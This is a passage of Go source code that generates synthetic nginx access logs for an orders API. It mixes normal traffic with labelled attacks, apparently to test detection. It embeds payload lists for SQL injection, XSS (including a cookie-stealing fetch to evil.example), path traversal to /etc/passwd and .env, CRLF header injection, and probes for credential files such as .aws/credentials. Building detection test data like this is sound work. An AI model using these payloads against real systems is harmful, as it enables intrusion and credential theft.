	case kind == AttackDeprecatedVersion:
		return &g.legacy
	}
	return &g.attackers[g.r.IntN(len(g.attackers))]
}

// normal draws a normal request of the current client.
func (g *apiGen) normal() {
	if g.c.arch == archMonitor {
		g.build(&apiHealth)
		g.status = 200
		return
	}
	cum := g.routeCum[g.c.arch]
	i := sort.SearchFloat64s(cum, g.r.Float64()*cum[len(cum)-1])
	rt := &apiRoutes[min(i, len(cum)-1)]
	g.build(rt)
	u := g.r.Float64()
	switch {
	case u < 0.002:
		g.status = [...]int{500, 502, 503}[g.r.IntN(3)]
	case u < 0.002+rt.p401:
		g.status = 401
	case u < 0.002+rt.p401+rt.pMiss:
		g.status = rt.miss
	case rt.method == "GET" && u > 1-rt.p304:
		g.status = 304
	default:
		g.status = rt.ok
	}
}

// build draws a normal request of rt: its id and the parameters a
// request carries, each with a normal value.
func (g *apiGen) build(rt *apiRoute) {
	g.method, g.size, g.ok = rt.method, rt.size, rt.ok
	g.path = append(g.path[:0], rt.prefix...)
	if rt.idGen != nil {
		g.path = rt.idGen(g, g.path)
	}
	g.params = g.params[:0]
	for i := range rt.params {
		if ps := &rt.params[i]; g.r.Float64() < ps.p {
			g.params = append(g.params, apiParam{ps.name, g.value(ps)})
			if ps.multi && g.r.IntN(16) == 0 {
				if v := g.value(ps); v != g.params[len(g.params)-1].value {
					g.params = append(g.params, apiParam{ps.name, v})
				}
			}
		}
	}
}

func (g *apiGen) value(ps *paramSpec) string {
	g.scratch = ps.gen(g, g.scratch[:0])
	return string(g.scratch)
}

// set gives parameter name the wire value v, adding it at a random place
// when the request does not carry it.
func (g *apiGen) set(name, v string) {
	for i := range g.params {
		if g.params[i].name == name {
			g.params[i].value = v
			return
		}
	}
	g.params = slices.Insert(g.params, g.r.IntN(len(g.params)+1), apiParam{name, v})
}

// order puts the parameters in the order the client sends them: sorted
// by name for some libraries, else as built with now and then two
// neighbours swapped.
func (g *apiGen) order() {
	if len(g.params) < 2 {
		return
	}
	if g.c.sorted {
		slices.SortStableFunc(g.params, func(a, b apiParam) int { return strings.Compare(a.name, b.name) })
		return
	}
	if g.r.IntN(12) == 0 {
		i := g.r.IntN(len(g.params) - 1)
		g.params[i], g.params[i+1] = g.params[i+1], g.params[i]
	}
}

// appendLine renders the request as an nginx combined line.
func (g *apiGen) appendLine(log []byte) []byte {
	t := append(g.target[:0], g.path...)
	for i, p := range g.params {
		t = append(t, "?&"[min(i, 1)])
		t = append(t, p.name...)
		t = append(t, '=')
		t = append(t, p.value...)
	}
	g.target = t
	ev := &g.ev
	ev.Reset()
	ev.Time = g.start.Add(g.clock)
	ev.Method = g.method
	ev.Raw.RemoteAddr = g.c.addr
	ev.Raw.Target = ev.AppendString(t)
	ev.Status, ev.BytesOut = g.status, g.bytes
	ev.Referer, ev.UserAgent = g.referer, g.c.ua
	return appendCombined(log, ev, g.c.proto)
}

// Attack payloads: decoded (encoded the attacker's way when sent) unless
// said to be in wire form.
var (
	tamperInt     = []string{"1 OR 1=1", "1 AND 1=2", "-1 OR 1=1", "1;SELECT pg_sleep(5)", "(SELECT 1)", "1 UNION SELECT NULL", "-1e309", "1e309", "NaN", "Infinity", "null", "undefined", "true", "[]", "0x7FFFFFFF", "1.5", "one"}
	tamperDecimal = []string{"NaN", "Infinity", "-Infinity", "1e309", "-1e309", "0x1p-2", "52.52 OR 1=1", "null", "true", "undefined", "{}"}
	tamperUUID    = []string{"1 OR 1=1", "null", "undefined", "0", "-1", "true", "*", "{}", "[]", "NaN", "1", "(SELECT 1)"}
	tamperHex     = []string{"1 OR 1=1", "null", "-1", "undefined", "{}", "true", "NaN", "*", "0 OR 1=1", "(SELECT 1)"}
	tamperDate    = []string{"now()", "NOW()", "sysdate()", "CURRENT_DATE", "1 OR 1=1", "0", "-1", "yesterday", "null", "1e309", "9999999999", "sleep(5)"}
	tamperEnum    = []string{"1 OR 1=1", "null", "*", "true", "-1", "0", "undefined", "all", "[]", "{}", "(SELECT 1)"}
	sqliPayloads  = []string{
		"' OR '1'='1", "' OR 1=1--", "x' UNION SELECT username,password FROM users--", "1' AND SLEEP(5)#",
		"'; DROP TABLE orders;--", "admin'--", `" OR ""="`, "') OR ('a'='a", "%' AND 1=1 AND '%'='", "1' ORDER BY 3-- -",
		"' UNION ALL SELECT NULL,NULL,version()--", "'||(SELECT pg_sleep(5))||'", "' AND extractvalue(1,concat(0x7e,database()))--",
		"x';WAITFOR DELAY '0:0:5'--", "1 /*!50000UNION*/ SELECT 1,2,3-- ",
	}
	xssPayloads = []string{
		"<script>alert(1)</script>", `"><img src=x onerror=alert(document.cookie)>`, "<svg/onload=alert(1)>",
		"<iframe src=javascript:alert(1)>", "<body onload=alert('XSS')>", "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
		"'><script src=//evil.example/x.js></script>", "<details open ontoggle=alert(1)>", `<a href="javascript:alert(1)">click</a>`,
		"<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>",
	}
	plainWords = []string{"shoes", "lamp", "coffee", "tv", "jacket", "lego", "test", "mug"}
	// unknownParams are names normal traffic never uses, with a value, in
	// wire form.
	unknownParams = [][2]string{
		{"debug", "1"}, {"debug", "true"}, {"admin", "true"}, {"is_admin", "1"}, {"role", "admin"}, {"test", "1"},
		{"_debug", "1"}, {"XDEBUG_SESSION_START", "phpstorm"}, {"__proto__[x]", "1"}, {"constructor[prototype][admin]", "true"},
		{"callback", "jQuery3710_1"}, {"_method", "DELETE"}, {"include", "all"}, {"expand", "*"}, {"internal", "1"},
		{"verbose", "true"}, {"trace", "1"}, {"user_id", "1"}, {"catgory", "books"}, {"per-page", "20"},
		{"pagesize", "100"}, {"qyt", "2"}, {"staus", "shipped"}, {"sortby", "price"}, {"langauge", "de"},
	}
	// massAssign are fields an attacker tries to set on a new order.
	massAssign = [][2]string{{"price", "0"}, {"discount", "100"}, {"total", "0.01"}, {"paid", "true"}, {"unit_price", "0.01"}}
	// unknownRoutes are never served, under the API's prefix; the query
	// is in wire form.
	unknownRoutes = [][3]string{
		{"GET", "/api/v2/orders/export", "format=csv"}, {"GET", "/api/v2/orders/export", ""}, {"GET", "/api/v2/orders/all", ""},
		{"GET", "/api/v2/orders/stats", ""}, {"POST", "/api/v2/orders/bulk", ""}, {"GET", "/api/v2/users", "page=1"},
		{"GET", "/api/v2/users/admin", ""}, {"GET", "/api/v2/users/me/permissions", ""}, {"POST", "/api/v2/users/register", "role=admin"},
		{"GET", "/api/v2/internal/config", ""}, {"GET", "/api/v2/admin", ""}, {"GET", "/api/v2/admin/users", "page=1"},
		{"GET", "/api/v2/debug/pprof/", ""}, {"GET", "/api/v2/metrics", ""}, {"POST", "/api/v2/graphql", ""},
		{"GET", "/api/v2/actuator/env", ""}, {"POST", "/api/v2/products/import", ""}, {"GET", "/api/v2/cart/share", ""},
		{"GET", "/api/v2/stores/all", ""}, {"GET", "/api/v2/reviews/pending", ""}, {"GET", "/api/v2/health", ""},
		{"GET", "/api/v2/login/reset", ""}, {"GET", "/api/v2/coupons", "active=true"},
	}
	probeFiles = []string{
		"/api/v2/orders.bak", "/.env", "/api/v2/.env", "/config.php~", "/api/v2/products.json.old", "/WEB-INF/web.xml",
		"/.git/config", "/.git/HEAD", "/backup.zip", "/api/v2/backup.tar.gz", "/db.sql", "/dump.sql", "/api/v2/users.sql.gz",
		"/wp-config.php.bak", "/.DS_Store", "/api/v2/config.yml", "/.aws/credentials", "/docker-compose.yml",
		"/api/v2/.orders.swp", "/index.php.save", "/api/v2/settings.json~", "/app/config/parameters.yml", "/.htpasswd",
		"/server.key", "/api/v2/orders.json.bak",
	}
	// traversalValues are in wire form.
	traversalValues = []string{
		"../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"%252e%252e%252f%252e%252e%252fetc%252fpasswd", "....//....//....//etc/passwd", "..%5c..%5c..%5cwindows%5cwin.ini",
		"../../../../etc/passwd%00", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "../../app/.env",
		"..%2f..%2f..%2fvar%2flog%2fnginx%2faccess.log", "/etc/passwd%00",
	}
	// traversalIDs replace a path's id; wire form, one segment.
	traversalIDs = []string{
		"..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd",
		"1%00.json", "..%5c..%5cwindows%5cwin.ini", "%2e%2e%2f%2e%2e%2fapp%2f.env",
	}
	// crlfValues are in wire form.
	crlfValues = []string{
		"%0d%0aSet-Cookie:%20session=attacker", "%0D%0AX-Injected:%20true", "%0d%0aLocation:%20https://evil.example/",
		"%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%0d%0a%20X-Forwarded-Host:%20evil.example",
		"%0D%0ASet-Cookie:%20admin=1;%20Path=/",
	}
)

// statusShare is a response status and its share in percent.
type statusShare struct{ status, pct int }

// attackStatus is how the API answers each kind of attack. Read-only.
var attackStatus = map[string][]statusShare{
	AttackTypeTamper:        {{400, 55}, {500, 20}, {200, 20}, {404, 5}},
	AttackSQLi:              {{400, 40}, {500, 25}, {200, 35}},
	AttackXSS:               {{200, 70}, {400, 30}},
	AttackOverlong:          {{400, 50}, {500, 20}, {200, 30}},
	AttackUnknownParam:      {{200, 85}, {400, 15}},
	AttackUnknownRoute:      {{404, 85}, {403, 8}, {401, 7}},
	AttackProbeFile:         {{404, 88}, {403, 9}, {200, 3}},
	AttackTraversal:         {{400, 45}, {404, 35}, {500, 10}, {200, 10}},
	AttackCRLF:              {{400, 50}, {200, 50}},
	AttackDeprecatedVersion: {{200, 88}, {404, 7}, {401, 5}},
}

// attack draws an attack of kind into g and returns the parameter it
// tampers with.
func (g *apiGen) attack(kind string) string {
	param := ""
	switch kind {
	case AttackTypeTamper:
		param = g.typeTamper()
	case AttackSQLi:
		param = g.inject(sqliPayloads, func(ps paramSpec) bool {
			return ps.typ == vText || ps.typ == vCode || ps.typ == vList || ps.typ == vEmail || ps.name == "sort"
		})
	case AttackXSS:
		param = g.inject(xssPayloads, func(ps paramSpec) bool { return ps.typ == vText })
	case AttackOverlong:
		param = g.overlong()
	case AttackUnknownParam:
		param = g.unknownParam()
	case AttackUnknownRoute:
		g.unknownRoute()
	case AttackProbeFile:
		g.method, g.size = "GET", 800
		if g.r.IntN(8) == 0 {
			g.method = "HEAD"
		}
		g.path = append(g.path[:0], probeFiles[g.r.IntN(len(probeFiles))]...)
	case AttackTraversal:
		param = g.traversal()
	case AttackCRLF:
		param = g.crlf()
	case AttackDeprecatedVersion:
		// The legacy integration mostly calls one operation.
		i := 0
		if g.r.IntN(10) >= 7 {
			i = 1 + g.r.IntN(len(apiV1Routes)-1)
		}
		g.build(&apiV1Routes[i])
	}
	u := g.r.IntN(100)
	for _, s := range attackStatus[kind] {
		if u -= s.pct; u < 0 {
			g.status = s.status
			if g.status == 200 {
				g.status = g.ok
			}
			break
		}
	}
	if g.status == 200 && (kind == AttackTypeTamper || kind == AttackSQLi) {
		g.size *= 1 + 20*g.r.Float64() // more rows than the caller may see
	}
	return param
}

// pickRoute draws a route of the API (health aside) that ok accepts, by
// popularity.
func (g *apiGen) pickRoute(ok func(rt *apiRoute) bool) *apiRoute {
	var total float64
	last := -1
	for i := range apiRoutes {
		if ok(&apiRoutes[i]) {
			total += g.routeW[i]
			last = i
		}
	}
	u := g.r.Float64() * total
	for i := range apiRoutes {
		if ok(&apiRoutes[i]) {
			if u -= g.routeW[i]; u < 0 {
				return &apiRoutes[i]
			}
		}
	}
	return &apiRoutes[last]
}

// pickTarget draws a route, by popularity, and one of its parameters that
// ok accepts.
func (g *apiGen) pickTarget(ok func(ps paramSpec) bool) (*apiRoute, *paramSpec) {
	rt := g.pickRoute(func(rt *apiRoute) bool { return slices.ContainsFunc(rt.params, ok) })
	n := 0
	for _, ps := range rt.params {
		if ok(ps) {
			n++
		}
	}
	k := g.r.IntN(n)
	for i := range rt.params {
		if ok(rt.params[i]) {
			if k == 0 {
				return rt, &rt.params[i]
			}
			k--
		}
	}
	panic("unreachable")
}

func hasID(rt *apiRoute) bool { return rt.id != vNone }

// typeTamper puts a value of the wrong shape in a typed parameter, or in
// the path's id.
func (g *apiGen) typeTamper() string {
	if g.r.IntN(4) == 0 {
		rt := g.pickRoute(hasID)
		g.build(rt)
		st := encStyles[g.c.style]
		st.plus = false // '+' is no space in a path
		g.path = escWith(append(g.path[:0], rt.prefix...), g.tamperValue(rt.id, rt.idGen), st)
		return "{id}"
	}
	rt, ps := g.pickTarget(func(ps paramSpec) bool {
		switch ps.typ {
		case vInt, vDecimal, vUUID, vHex, vDate, vEnum:
			return true
		}
		return false
	})
	g.build(rt)
	g.set(ps.name, string(esc(g, nil, g.tamperValue(ps.typ, ps.gen))))
	return ps.name
}

// tamperValue is a decoded value that does not have shape t: SQL without
// quotes (sometimes after a normal value gen draws), or a word.
func (g *apiGen) tamperValue(t valueType, gen func(g *apiGen, b []byte) []byte) string {
	if t != vDecimal && g.r.IntN(4) == 0 {
		return string(gen(g, nil)) + " OR 1=1"
	}
	list := tamperEnum
	switch t {
	case vInt:
		list = tamperInt
	case vDecimal:
		list = tamperDecimal
	case vUUID:
		list = tamperUUID
	case vHex:
		list = tamperHex
	case vDate:
		list = tamperDate
	}
	return list[g.r.IntN(len(list))]
}

// inject puts one of payloads in a parameter ok accepts, sometimes after
// a normal-looking value.
func (g *apiGen) inject(payloads []string, ok func(ps paramSpec) bool) string {
	rt, ps := g.pickTarget(ok)
	g.build(rt)
	v := payloads[g.r.IntN(len(payloads))]
	if g.r.IntN(2) == 0 {
		switch ps.typ {
		case vText:
			sep := ""
			if v[0] == '<' {
				sep = " "
			}
			v = plainWords[g.r.IntN(len(plainWords))] + sep + v
		case vEnum, vCode: // their values need no encoding
			if v[0] == '\'' {
				v = g.value(ps) + v
			}
		}
	}
	g.set(ps.name, string(esc(g, nil, v)))
	return ps.name
}

// unknownRoute requests a path under /api/v2 that is never served.
func (g *apiGen) unknownRoute() {
	u := unknownRoutes[g.r.IntN(len(unknownRoutes))]
	g.method, g.size = u[0], 1200
	g.path = append(g.path[:0], u[1]...)
	for kv := range strings.SplitSeq(u[2], "&") {
		if name, v, ok := strings.Cut(kv, "="); ok {
			g.params = append(g.params, apiParam{name, v})
		}
	}
}

// overlong sends a value 10-50 times longer than the parameter's longest
// normal one: digits, AAAA..., junk or a base64 blob.
func (g *apiGen) overlong() string {
	rt, ps := g.pickTarget(func(ps paramSpec) bool { return ps.typ != vToken })
	g.build(rt)
	n := min(int(float64(ps.maxLen)*(10.5+39.5*g.r.Float64())), maxOverlong)
	b := make([]byte, 0, n+128)
	switch u := g.r.IntN(3); {
	case (ps.typ == vInt || ps.typ == vDecimal) && u == 0:
		for len(b) < n {
			b = append(b, byte('0'+g.r.IntN(10)))
		}
	case ps.typ == vHex || ps.typ == vCode || ps.typ == vUUID || u == 1:
		var raw [48]byte
		for len(b) < n {
			for i := range raw {
				raw[i] = byte(g.r.Uint32())
			}
			b = esc(g, b, base64.StdEncoding.EncodeToString(raw[:]))
		}
	case u == 2:
		for len(b) < n {
			b = append(b, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"[g.r.IntN(62)])
		}
	default:
		for len(b) < n {
			b = append(b, 'A')
		}
	}
	if ps.typ == vEmail {
		b = esc(g, b, "@example.com")
	}
	g.set(ps.name, string(b))
	return ps.name
}

// unknownParam adds a parameter normal traffic never uses to a normal
// request.
func (g *apiGen) unknownParam() string {
	rt := g.pickRoute(func(*apiRoute) bool { return true })
	g.build(rt)
	p := unknownParams[g.r.IntN(len(unknownParams))]
	if rt.method == "POST" && rt.prefix == "/api/v2/orders" && g.r.IntN(5) < 2 {
		p = massAssign[g.r.IntN(len(massAssign))]
	}
	g.set(p[0], p[1])
	return p[0]
}

// traversal puts ../, %2e%2e%2f or %00 in a value, or in the path's id
// of a GET.
func (g *apiGen) traversal() string {
	if g.r.IntN(4) == 0 {
		rt := g.pickRoute(func(rt *apiRoute) bool { return hasID(rt) && rt.method == "GET" })
		g.build(rt)
		g.path = append(append(g.path[:0], rt.prefix...), traversalIDs[g.r.IntN(len(traversalIDs))]...)
		return "{id}"
	}
	rt, ps := g.pickTarget(func(ps paramSpec) bool {
		return ps.typ == vEnum || ps.typ == vText || ps.typ == vCode || ps.typ == vList || ps.typ == vPath
	})
	g.build(rt)
	v := traversalValues[g.r.IntN(len(traversalValues))]
	if g.r.IntN(4) == 0 {
		v = g.value(ps) + "%00" + [...]string{"", ".html", ".php", ".json"}[g.r.IntN(4)]
	}
	g.set(ps.name, v)
	return ps.name
}

// crlf puts %0d%0a and a header in a value, mostly after a normal one.
func (g *apiGen) crlf() string {
	rt, ps := g.pickTarget(func(ps paramSpec) bool {
		return ps.typ == vEnum || ps.typ == vText || ps.typ == vCode || ps.typ == vList || ps.typ == vEmail || ps.typ == vPath
	})
	g.build(rt)
	v := crlfValues[g.r.IntN(len(crlfValues))]
	if g.r.IntN(10) < 7 {
		v = g.value(ps) + v
	}
	g.set(ps.name, v)
	return ps.name
}
